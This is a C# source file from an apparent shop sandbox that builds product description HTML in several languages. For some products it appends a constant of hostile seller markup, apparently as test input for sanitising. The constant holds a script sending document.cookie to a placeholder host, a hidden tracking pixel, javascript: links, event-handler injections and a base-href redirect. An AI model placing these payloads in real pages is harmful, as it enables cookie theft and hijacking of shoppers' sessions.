using System.Net;
using System.Text;

namespace Shop.Sandbox.Catalogue;

/// <summary>Description HTML as sellers leave it: images, tables, inline styles, and on some products things a shop must never pass on.</summary>
internal static class DescriptionWriter
{
    private const string Nasty = """
        <script>document.location='//collect.example/?c='+document.cookie</script>
        <img src="//stat.example/p.gif?uid=1" width="1" height="1" style="display:none">
        <p onclick="window.open('//promo.example')" style="background:url(javascript:alert(1))">Follow our store for a coupon!</p>
        <a href="javascript:void(location='//promo.example')" target="_blank">WhatsApp +86 000 0000 0000</a>
        <iframe src="//video.example/embed/1"></iframe><svg onload="alert(1)"></svg><base href="//evil.example/">
        """;

    public static string Html(Product product, Language language, Func<int, string> imageUrl)
    {
        var html = new StringBuilder("<div class=\"detailmodule_html\"><div class=\"detail-desc-decorate-richtext\">");
        html.Append("<h2>").Append(Encode(product.Title.In(language))).Append("</h2>");
        html.Append("<p>").Append(Encode(Opening(product, language))).Append("</p><ul>");
        foreach (var spec in product.Specs.Where(spec => spec.NameId > 0))
        {
            html.Append("<li><strong>").Append(Encode(spec.Name.In(language))).Append("</strong>: ").Append(Encode(spec.Value.In(language))).Append("</li>");
        }

        html.Append("</ul>");
        for (var view = 1; view < product.ImageCount; view++)
        {
            html.Append("<p><img src=\"").Append(imageUrl(view)).Append("\" style=\"display: block;width: 100.0%;height: auto;\" referrerpolicy=\"no-referrer\"></p>");
        }

        if (product.NastyDescription) html.Append(Nasty);
        return html.Append("</div></div>").ToString();
    }

    private static string Opening(Product product, Language language)
    {
        var use = product.Specs.First(spec => spec.NameId == 200000137).Value.In(language);
        return language switch
        {
            Language.French => $"Un article pratique et soigné, pensé pour {use}. Chaque pièce est contrôlée avant l’expédition.",
            Language.Chinese => $"实用耐看，适合{use}。每件商品发货前均经检验。",
            _ => $"Practical and well finished, made for {use}. Every piece is checked before it ships.",
        };
    }

    private static string Encode(string text) => WebUtility.HtmlEncode(text);
}
